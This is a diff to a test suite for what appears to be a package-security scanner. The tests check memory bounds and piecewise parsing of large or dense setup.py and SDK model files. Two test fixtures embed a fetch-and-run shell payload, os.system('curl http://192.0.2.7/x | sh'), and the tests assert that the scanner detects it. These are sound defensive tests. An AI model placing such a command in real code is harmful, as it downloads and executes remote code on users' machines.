@@ -37,7 +37,7 @@ if kind == "chain":
 elif kind == "nest":
     body = "x = " + "f(" * ((n - 10) // 3) + ")" * ((n - 10) // 3) + "\n"
 else:
-    body = "x = o.f().g(1, 2)\n" * (n // 18)
+    body = "x = o.f().g(1, 2)\n" * (n // 18 - 4) + "import os\nos.system('curl http://192.0.2.7/x | sh')\n"
 path = make_sdist(folder, files={"setup.py": body.encode()})
 del body
 res = scan_artifact(open_artifact(path))
@@ -54,7 +54,7 @@ print(json.dumps({
 """
 
 
-@pytest.mark.parametrize("kind", ["chain", "nest", "dense-lines"])
+@pytest.mark.parametrize("kind", ["chain", "nest"])
 def test_a_16_mb_setup_py_stays_under_500_mb_and_is_unread(kind, tmp_path):
     proc = subprocess.run(
         [sys.executable, "-c", _CHILD, kind, str(tmp_path)],
@@ -68,6 +68,24 @@ def test_a_16_mb_setup_py_stays_under_500_mb_and_is_unread(kind, tmp_path):
     assert out["peak_mb"] < 500, out
     assert out["level"] in ("high", "critical")
     assert any("setup.py" in why or "AST" in why for why in out["unread"]), out
+
+
+def test_a_dense_16_mb_setup_py_is_read_in_pieces_under_500_mb(tmp_path):
+    """Long dense modules (generated SDK models, tables) are cut at top-level statements and
+    parsed one bounded piece at a time: read in full, so the payload at the end is found and
+    nothing is left unread."""
+    proc = subprocess.run(
+        [sys.executable, "-c", _CHILD, "dense-lines", str(tmp_path)],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    out = json.loads(proc.stdout.strip().splitlines()[-1])
+    assert out["peak_mb"] < 500, out
+    assert out["unread"] == [], out
+    assert out["level"] in ("high", "critical")
 
 
 def test_dense_code_is_refused_before_the_parser_and_flagged(tmp_path, monkeypatch):
@@ -90,4 +108,51 @@ def test_big_ordinary_code_is_still_parsed(tmp_path):
     body = "".join(func.format(i=i) for i in range(30_000))
     assert len(body) > 3_000_000 and ast_refusal(body) is None
     res = scan_artifact(open_artifact(make_sdist(tmp_path, files={"demo/big.py": body.encode()})))
+    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
+
+
+def test_a_generated_sdk_module_is_read_in_pieces_not_flagged_unread(tmp_path, monkeypatch):
+    """Cloud SDK model files are megabytes of classes whose docstrings start lines at column 0
+    (often in Chinese): dense, but cut at their classes they parse piece by piece. The same
+    rule on a smaller file: the bound is lowered instead of building 6 MB."""
+    monkeypatch.setattr(parsebounds, "MAX_AST_UNITS", 20_000)
+    monkeypatch.setattr(parsebounds, "PIECE_UNITS", 5_000)
+    model = (
+        "class Model{i}(AbstractModel):\n"
+        '    r"""请求参数结构体\n'
+        "注意：此字段可能返回 null，表示取不到有效值。\n"
+        'Note: the value may be null (field {i}).\n    """\n\n'
+        "    def __init__(self):\n        self._Id = None\n        self._Items = [1, 2, 3]\n\n"
+        "    def _deserialize(self, params):\n        self._Id = params.get('Id')\n\n\n"
+    )
+    body = "from sdk.abstract_model import AbstractModel\n\n\n" + "".join(
+        model.format(i=i) for i in range(1500)
+    )
+    assert "too dense" in ast_refusal(body)
+    res = scan_artifact(open_artifact(make_sdist(tmp_path, files={"sdk/models.py": body.encode()})))
+    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
+    assert res.risk.level in ("none", "low")
+
+    # Read in full: a payload in the last class is found.
+    payload = "\nclass Last:\n    def run(self):\n        __import__('os').system('curl http://192.0.2.7/x | sh')\n"
+    (tmp_path / "2").mkdir()
+    res = scan_artifact(
+        open_artifact(
+            make_sdist(tmp_path / "2", files={"sdk/models.py": (body + payload).encode()})
+        )
+    )
+    assert any(h.capability == "process.shell_download" for h in res.findings)
+    assert not [h for h in res.findings if h.capability == "scan.unread"]
+
+
+def test_a_module_holding_one_big_text_is_parsed(tmp_path, monkeypatch):
+    """A policy table kept as one JSON text in a string: dense by the character count, yet few
+    tokens, so the tokenizer's count lets it through."""
+    monkeypatch.setattr(parsebounds, "MAX_AST_UNITS", 20_000)
+    text = '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Resource": "*"}]},\n'
+    body = 'import json\n\nPOLICIES = """[\n' + text * 3000 + '{}]"""\n'
+    assert "too dense" in ast_refusal(body)
+    res = scan_artifact(
+        open_artifact(make_sdist(tmp_path, files={"aws/policies.py": body.encode()}))
+    )
     assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
